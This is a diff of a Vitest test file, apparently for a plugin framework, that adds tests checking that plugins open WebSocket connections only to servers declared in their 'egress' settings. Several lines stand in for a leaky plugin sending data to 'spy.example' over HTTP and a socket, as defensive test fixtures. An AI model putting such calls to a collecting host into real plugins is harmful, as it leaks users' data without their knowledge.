@@ -1,4 +1,4 @@
-import { expect, it } from 'vitest'
+import { describe, expect, it, onTestFinished, vi } from 'vitest'
 import { definePlugin } from '../../kernel/define/define-plugin.js'
 import type { Egress } from '../../kernel/contract/egress.js'
 import type { PluginContext } from '../../kernel/contract/plugin.js'
@@ -80,7 +80,78 @@ it.each([
         await http('https://spy.example/collect').catch(() => undefined)
       }),
   })
-  const name = 'reaches only the servers, storage keys and frames that it declares in `egress`'
+  const name = 'reaches only the servers, storage keys, frames and sockets that it declares in `egress`'
   const check = featureConformance(() => leaky()).find((one) => one.name === name)
   await expect(check?.run()).rejects.toThrow('The plugin leaky reaches https://spy.example, which it does not declare.')
+})
+
+describe('a socket', () => {
+  const SPY = 'wss://spy.example/feed?key=1'
+
+  /** Replaces the sockets of the page by ones that connect to nothing. */
+  const bootSockets = (...declared: readonly (Egress | undefined)[]) => {
+    const opened: string[] = []
+    class FakeSocket {
+      static readonly OPEN = 1
+      constructor(url: string) {
+        opened.push(url)
+      }
+    }
+    vi.stubGlobal('WebSocket', FakeSocket)
+    const plugins = declared.map((egress, index) =>
+      definePlugin({ id: `plugin${index}`, ...(egress && { egress: () => egress }) })(),
+    )
+    const { modal, undeclared, window } = createTestModal({ plugins })
+    onTestFinished(async () => {
+      await modal.destroy()
+      vi.unstubAllGlobals()
+    })
+    return { opened, modal, undeclared, window }
+  }
+
+  it.each(['wss://relay.example/?projectId=1', 'https://relay.example/'])(
+    'is opened to a server that a plugin of the modal declares: %s',
+    (address) => {
+      const { opened, undeclared } = bootSockets({}, { sockets: ['wss://relay.example'] })
+      expect(new WebSocket(address)).toBeInstanceOf(WebSocket)
+      expect(opened).toEqual([address])
+      expect(undeclared).toEqual([])
+      expect(WebSocket.OPEN).toBe(1)
+    },
+  )
+
+  it('is refused if no plugin declares its server, with the line to add', () => {
+    const { opened, undeclared, window } = bootSockets({ sockets: ['wss://relay.example'] }, {})
+    const message =
+      "A socket is opened to wss://spy.example, which none of these plugins declares: plugin0, plugin1. Add to the definition of the one that opens it: egress: () => ({ sockets: ['wss://spy.example'] })"
+    expect(() => new WebSocket(SPY)).toThrow(message)
+    expect(() => window.WebSocket && new window.WebSocket(SPY)).toThrow(message)
+    expect(opened).toEqual([])
+    expect(undeclared).toHaveLength(2)
+    expect(undeclared[0]).toMatchObject({
+      plugin: 'plugin0, plugin1',
+      kind: 'sockets',
+      address: 'wss://spy.example',
+      error: { code: 'EGRESS_SOCKET_UNDECLARED' },
+    })
+  })
+
+  it('is opened and listed if a plugin without `egress` may have opened it', () => {
+    const { opened, undeclared } = bootSockets({ sockets: ['wss://relay.example'] }, undefined)
+    new WebSocket(SPY)
+    expect(opened).toEqual([SPY])
+    expect(undeclared).toMatchObject([{ kind: 'sockets', address: 'wss://spy.example' }])
+  })
+
+  it('may be declared in any of the modals of a test, and is not checked after they are destroyed', async () => {
+    const first = bootSockets({ sockets: ['wss://relay.example'] })
+    const second = createTestModal({ plugins: [definePlugin({ id: 'other', egress: () => ({}) })()] })
+    new WebSocket('wss://relay.example')
+    expect(() => new WebSocket(SPY)).toThrow('none of these plugins')
+    await second.modal.destroy()
+    await first.modal.destroy()
+    new WebSocket(SPY)
+    expect(first.opened).toEqual(['wss://relay.example', SPY])
+    expect(second.undeclared).toHaveLength(1)
+  })
 })
